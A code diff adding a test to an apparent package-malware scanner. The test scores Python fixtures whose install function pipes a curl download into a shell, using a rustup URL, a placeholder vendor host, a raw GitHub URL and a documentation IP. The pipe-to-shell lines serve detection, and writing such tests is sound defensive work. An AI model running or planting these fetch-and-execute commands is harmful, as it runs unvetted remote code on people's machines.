@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
 import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 
 test('a download that setup.py pipes into a shell is malware', async () => {
@@ -214,4 +215,27 @@ test.each([
   });
 
   expect(await inspect('shell-payload', file)).toMatchObject([{ context: 'call', score }]);
+});
+
+test('the installer of a house with a name, piped into a shell when somebody asks for it, stays below quarantine', async () => {
+  const of = (address: string): Promise<readonly Finding[]> =>
+    inspect(
+      'shell-payload',
+      wheel({
+        'pkg/tools.py': python(
+          'import subprocess',
+          'def install():',
+          `    subprocess.run('curl -LsSf ${address} | sh', shell=True, check=True)`,
+        ),
+      }),
+    );
+
+  expect(await of('https://sh.rustup.rs')).toMatchObject([{ score: 4 }]);
+  expect(await of('https://tools.vendor.invalid/install.sh')).toMatchObject([{ score: 4 }]);
+  for (const address of [
+    'http://sh.rustup.rs',
+    'https://raw.githubusercontent.com/a/b/main/i.sh',
+    'https://203.0.113.8/i.sh',
+  ])
+    expect((await of(address))[0]?.score).toBeGreaterThanOrEqual(5);
 });
